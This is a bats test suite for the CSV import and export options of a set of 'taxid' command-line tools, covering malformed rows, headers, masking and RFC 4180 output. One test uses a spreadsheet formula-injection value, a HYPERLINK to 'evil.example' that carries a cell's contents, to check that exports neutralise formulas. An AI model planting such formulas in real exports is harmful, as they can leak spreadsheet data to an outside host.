#!/usr/bin/env bats
# Spreadsheets (issue 18 item 6): --input csv turns each row of a CSV file into the request its NDJSON line would
# be; --format csv prints the listing actions as RFC 4180 CSV with a byte-order mark, masked, no cell a formula.
load helper

load bind-helper

SPECIALIST='operator:={"id":"sp-07","role":"specialist"}'

# csv2json FILE: each data row of a CSV file as one JSON object (keys sorted), read by Python's csv module.
csv2json() {
	python3 -c 'import csv, json, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    for row in csv.DictReader(f):
        print(json.dumps(row, ensure_ascii=False, sort_keys=True, separators=(",", ":")))' "$1"
}

# cells COLUMN...: JSON rows on stdin as the cells a CSV of those columns must hold (keys sorted): a string as it
# is (with a ' before = + - @), a number or boolean as its text, an object or array as compact JSON, else empty.
cells() {
	jq -c '. as $r | [$ARGS.positional[] | . as $c | {key: $c, value: ($r | getpath($c | split("."))
		| if . == null then "" elif type == "string" then (if test("^[-=+@\t\r]") then "'"'"'" + . else . end)
		  elif type == "number" or type == "boolean" then tostring else tojson end)}] | from_entries' --args "$@" |
		jq -cS .
}

# header FILE: the first line of a CSV file without its byte-order mark and CR.
header() { head -n 1 "$1" | sed 's/^\xef\xbb\xbf//' | tr -d '\r'; }

# enrol_csv: three retirees as CSV (the operator an object through dotted columns), and the same as NDJSON.
people_files() {
	a=$(ric 11010519491231002) b=$(ric 11010519500101001) c=$(ric 31010119500101002)
	printf '\xef\xbb\xbfkind,doc_type,doc_no,name,pension_account,region,insurance_type,benefit_start,last_certified,operator.id,operator.role\r\n' >in.csv
	printf 'retiree,201,%s,张三,P-1,110105,enterprise,2010-01,2025-12-01,sp-07,specialist\r\n' "$a" >>in.csv
	printf 'retiree,201,%s,李四,P-2,110105,enterprise,2010-01,2025-12-10,sp-07,specialist\r\n' "$b" >>in.csv
	printf 'retiree,201,%s,"阿依古丽·买买提",P-3,310101,enterprise,2010-01,2025-11-01,sp-07,specialist\r\n' "$c" >>in.csv
	jq -nc --arg a "$a" --arg b "$b" --arg c "$c" '
		{kind:"retiree",doc_type:"201",doc_no:$a,name:"张三",pension_account:"P-1",region:"110105",insurance_type:"enterprise",benefit_start:"2010-01",last_certified:"2025-12-01",operator:{id:"sp-07",role:"specialist"}},
		{kind:"retiree",doc_type:"201",doc_no:$b,name:"李四",pension_account:"P-2",region:"110105",insurance_type:"enterprise",benefit_start:"2010-01",last_certified:"2025-12-10",operator:{id:"sp-07",role:"specialist"}},
		{kind:"retiree",doc_type:"201",doc_no:$c,name:"阿依古丽·买买提",pension_account:"P-3",region:"310101",insurance_type:"enterprise",benefit_start:"2010-01",last_certified:"2025-11-01",operator:{id:"sp-07",role:"specialist"}}' >in.ndjson
}

@test "--input csv: enroll gives the same results and the same state as the NDJSON lines, row numbers for lines" {
	people_files
	run taxid-survival --db n.db enroll <in.ndjson
	assert_success
	nd=$output
	run taxid-survival --db c.db --input csv enroll <in.csv
	assert_success
	[ "$(jq -c '.line' <<<"$output" | tr '\n' ' ')" = '2 3 4 ' ]
	[ "$(jq -cS 'del(.line)' <<<"$output")" = "$(jq -cS 'del(.line)' <<<"$nd")" ]
	for d in "$a" "$b" "$c"; do
		[ "$(taxid-survival --db c.db status doc_type=201 doc_no="$d")" = "$(taxid-survival --db n.db status doc_type=201 doc_no="$d")" ]
	done
	[ "$(taxid-survival --db c.db --reveal status doc_type=201 doc_no="$c" operator=op-test | jq -r .name)" = '阿依古丽·买买提' ]
}

@test "--input csv: register import and enterprise import (nested members by dotted names, JSON cells by :=)" {
	printf 'doc_type,doc_no,name,login_name,phone,initial_password,face_verified:=\r\n' >p.csv
	printf '201,110105198001010016,王法人,wang_rep,13800138001,doc_tail6,true\r\n201,110105198502020028,李财务,,,,\r\n' >>p.csv
	run taxid-register --input csv import <p.csv
	assert_success
	[ "$(jq -sc 'map(.line)' <<<"$output")" = '[2,3]' ]
	run taxid-register show login_name=wang_rep
	assert_success
	[ "$(jfield .level)" = 4 ]
	cat >e.csv <<'CSV'
tin,name,legal_rep.doc_type,legal_rep.doc_no,legal_rep.name,credit,flags:=
91310115MA5E6F7G8T,"导入一, ""上海""",201,110105198001010016,王法人,A,
91310115MA8H9J0K1X,坏号,201,110105198001010016,王法人,,
91310115MA2L3M4NX2,导入二,201,110105198001010016,王法人,,"[""realname_risk""]"
CSV
	run taxid-bind enterprise import --input csv --operator op2 <e.csv
	assert_failure 1
	[ "$(jq -sc 'map([.line, .import // .error.code])' <<<"$output")" = '[[2,"created"],[3,"bad_checksum"],[4,"created"]]' ]
	[ "$(taxid-bind enterprise show tin=91310115MA5E6F7G8T | jq -r .name)" = '导入一, "上海"' ]
	[ "$(taxid-bind enterprise show tin=91310115MA2L3M4NX2 | jq -c .flags)" = '["realname_risk"]' ]
}

@test "--input csv: a bad row is refused with its row number and the run goes on" {
	{
		printf 'doc_type,doc_no,ref,strict:=\n'
		printf '201,11010519491231002X,one,true\n'
		printf '201,11010519491231002X,two\n'              # a cell short
		printf '201,11010519491231002X,th"ree,true\n'      # a stray quote
		printf '201,11010519491231002X,four,tru\n'         # not JSON in a := column
		printf '201,11010519491231002X,\xff,true\n'        # not UTF-8
		printf '\n'                                        # blank lines are no rows
		printf '201,11010519491231002X,"six\nlines",false\n'
		printf '201,11010519491231002X,"%s",true\n' "$(head -c 1100000 /dev/zero | tr '\0' a)"
		printf '201,11010519491231002X,"eight' # a quote never closed
	} >bad.csv
	run taxid-verify --input csv identity <bad.csv
	assert_failure 1
	[ "${#lines[@]}" = 8 ]
	[ "$(jq -sc 'map([.line, .ok, .error.code // .ref])' <<<"$output")" = \
		'[[2,true,"one"],[3,false,"bad_csv"],[4,false,"bad_csv"],[5,false,"bad_json"],[6,false,"bad_utf8"],[7,true,"six\nlines"],[8,false,"request_too_large"],[9,false,"bad_csv"]]' ]
	[ "$(jq -sc '.[1].error | [.reason, .cells, .columns]' <<<"$output")" = '["cell_count",3,4]' ]
	[ "$(jq -sc '.[3].error.field' <<<"$output")" = '"strict"' ]
	[ "$(jq -sc '.[4].error.field' <<<"$output")" = '"ref"' ]
	# the same rows as NDJSON give the same answers
	printf '%s\n' '{"doc_type":"201","doc_no":"11010519491231002X","ref":"one","strict":true}' | taxid-verify identity >a.out
	[ "$(jq -cS 'del(.line)' a.out)" = "$(jq -sc '.[0] | del(.line)' <<<"$output" | jq -cS .)" ]
	# a NUL byte is refused as in JSON text (jansson refuses \u0000), by the column
	run taxid-verify --input csv identity < <(printf 'doc_type,doc_no,ref\n201,11010519491231002X,x\0y\n201,11010519491231002X,z\n')
	[ "$(jq -sc 'map([.line, .error.code // .ref, .error.field])' <<<"$output")" = '[[2,"bad_utf8","ref"],[3,"z",null]]' ]
}

@test "--input csv: a bad header refuses row 1 and nothing runs; the header alone is no request" {
	printf 'doc_type,doc_no,doc_no\n201,11010519491231002X,x\n' | {
		run taxid-verify --input csv identity
		assert_failure 1
		[ "${#lines[@]}" = 1 ]
		[ "$(jq -c '[.line, .error.code, .error.reason, .error.column]' <<<"$output")" = '[1,"bad_csv","bad_header",3]' ]
	}
	for h in 'a,,b' 'a,a.b' '.a,b' 'a..b'; do
		run taxid-verify --input csv identity <<<"$h"$'\n1,2,3'
		assert_failure 1
		[ "$(jq -c '[.line, .error.reason]' <<<"$output")" = '[1,"bad_header"]' ]
	done
	run taxid-verify --input csv identity <<<'doc_type,doc_no'
	assert_success
	assert_output ''
	run taxid-verify --input xml identity <<<'doc_type'
	assert_failure 64
	# a byte-order mark that arrives in pieces is still only a mark
	run taxid-verify --input csv identity < <(printf '\xef'; sleep 0.3; printf '\xbb'; sleep 0.3; printf '\xbfdoc_type,doc_no\n201,11010519491231002X\n')
	assert_success
	[ "$(jq -c '[.line, .valid]' <<<"$output")" = '[2,true]' ]
}

@test "due --format csv: a byte-order mark, the JSON rows' cells, Chinese names masked" {
	people_files
	taxid-survival --input csv enroll <in.csv >/dev/null
	taxid-survival due --as-of 2026-11-25 --within 30 >due.json
	[ "$(wc -l <due.json)" -ge 2 ]
	taxid-survival due --as-of 2026-11-25 --within 30 --format csv >due.csv
	[ "$(head -c 3 due.csv | od -An -tx1 | tr -d ' ')" = efbbbf ]
	cols=(pensioner kind doc_type doc_no name region status state valid_until lapses_on days_left app_required
		fingerprint_on suspended.reason suspended.from)
	[ "$(header due.csv)" = "$(IFS=,; echo "${cols[*]}")" ]
	[ "$(csv2json due.csv)" = "$(cells "${cols[@]}" <due.json)" ]
	grep -q '张\*' due.csv
	! grep -q 张三 due.csv || false
	! grep -q "$a" due.csv || false
	# every row ends with CRLF (RFC 4180)
	[ "$(grep -c $'\r$' due.csv)" = "$(wc -l <due.csv)" ]
}

@test "run --format csv: the notices as a spreadsheet, the same as the JSON notices; the summary on stderr" {
	people_files
	taxid-survival --input csv enroll <in.csv >/dev/null
	db_copy j
	taxid-survival --db "$(db_path j)" run --as-of 2026-11-25 >run.json
	run --separate-stderr taxid-survival run --as-of 2026-11-25 --format csv
	assert_success
	printf '%s\n' "$output" >run.csv
	[[ $stderr == *"run 2026-11-25 done: 3 processed"* ]]
	cols=(notice_id notice pensioner doc_type doc_no name region as_of valid_until days_left offset grace lapses_on
		lapsed_on suspended_from reason birthday payment_stops_from)
	[ "$(header run.csv)" = "$(IFS=,; echo "${cols[*]}")" ]
	[ "$(jq -c 'select(.notice)' run.json | wc -l)" -ge 2 ]
	[ "$(csv2json run.csv)" = "$(jq -c 'select(.notice)' run.json | cells "${cols[@]}")" ]
}

@test "report --format csv: one row per region and month, then the totals" {
	people_files
	taxid-survival --input csv enroll <in.csv >/dev/null
	taxid-survival run --as-of 2026-11-25 >/dev/null
	taxid-survival report --as-of 2026-11-25 --months 2 >rep.json
	taxid-survival report --as-of 2026-11-25 --months 2 --format csv >rep.csv
	[ "$(header rep.csv)" = region,month,certified,due,overdue,suspended,resumed ]
	want=$(jq -c '(.regions[] | .region as $r | .months[] | {region: $r} + .), (.total.months[] | {region: "total"} + .)' rep.json |
		cells region month certified due overdue suspended resumed)
	[ "$(csv2json rep.csv)" = "$want" ]
	[ "$(csv2json rep.csv | wc -l)" = 6 ]
	run taxid-survival report --as-of 2026-11-25 --format xlsx
	assert_failure 1
	[ "$(jfield .error.code)" = bad_value ]
}

@test "lockout list and history --format csv hold what the JSON rows hold" {
	account zhang_san 'Secr3t!pass'
	keygen cap
	trust cap captcha
	for m in 0 1 2 3 4; do
		t=$(at $m)
		taxid-login --now "$t" account=zhang_san password=Wrong-pass1 captcha:="$(TAXID_NOW=$t verdict cap captcha zhang_san)" >/dev/null || true
	done
	taxid-lockout --now "$(at 5)" list >list.json
	[ "$(wc -l <list.json)" -ge 1 ]
	taxid-lockout --now "$(at 5)" list --format csv >list.csv
	cols=(scope subject login_name failures locked_at locked_until last_source)
	[ "$(csv2json list.csv)" = "$(cells "${cols[@]}" <list.json)" ]
	taxid-lockout history account=zhang_san >hist.json
	taxid-lockout history --format csv account=zhang_san >hist.csv
	[ "$(wc -l <hist.json)" -ge 5 ]
	# detail is JSON in a quoted cell: its commas and quotes survive
	[ "$(csv2json hist.csv)" = "$(cells id at tool event actor detail <hist.json)" ]
	grep -q '""' hist.csv
}

@test "bind list --format csv: a formula in a name is neutralised, commas and quotes survive, names masked" {
	people <<'PEOPLE'
wang_rep 110105198001010016 王法人 13800138001
zhao_tax 110105199003030031 赵办税 13800138003
PEOPLE
	evil='=HYPERLINK("http://evil.example/?q="&A1,"点击"), 有限公司'
	taxid-bind enterprise add tin=$E1 name="$evil" legal_rep:="$REP" operator=op1 >/dev/null
	s=$(sess wang_rep 13800138001)
	taxid-bind bind session="$s" tin=$E1 role=legal_rep >/dev/null
	taxid-bind grant session="$s" tin=$E1 role=tax_handler login_name=zhao_tax >/dev/null
	taxid-bind list operator=op1 tin=$E1 >list.json
	[ "$(wc -l <list.json)" = 2 ]
	taxid-bind list operator=op1 tin=$E1 --format csv >list.csv
	cols=(relation tin enterprise role permissions origin state valid_from valid_until created_at updated_at person.id
		person.login_name person.name contact_phone history)
	[ "$(csv2json list.csv)" = "$(cells "${cols[@]}" <list.json)" ]
	[ "$(csv2json list.csv | jq -r .enterprise | sort -u)" = "'$evil" ]
	# no cell begins with = + - @ once the quotes are taken off
	! csv2json list.csv | jq -r '.[]' | grep -qE '^[-=+@]' || false
	grep -q '王\*' list.csv
	! grep -q 王法人 list.csv || false
	# a refusal once the spreadsheet has begun goes to standard error; stdout stays one CSV file
	printf '%s\n' "{\"operator\":\"op1\",\"tin\":\"$E1\"}" '{"operator":"op1"}' >req.ndjson
	run --separate-stderr taxid-bind list --format csv - <req.ndjson
	assert_failure 1
	[ "$(printf '%s\n' "$output" | grep -c $'^\xef\xbb\xbf')" = 1 ]
	[ "$(jq -r .error.code <<<"$stderr")" = missing_field ]
	run taxid-bind list operator=op1 tin=$E1 --format yaml
	assert_failure 1
	[ "$(jfield .error.field)" = format ]
}

@test "CSV output stays masked unless --reveal, as JSON" {
	people_files
	taxid-survival --input csv enroll <in.csv >/dev/null
	TAXID_OPERATOR=op-test taxid-survival --reveal due --as-of 2026-11-25 --within 30 --format csv >due.csv
	grep -q 张三 due.csv
	grep -q "$a" due.csv
}
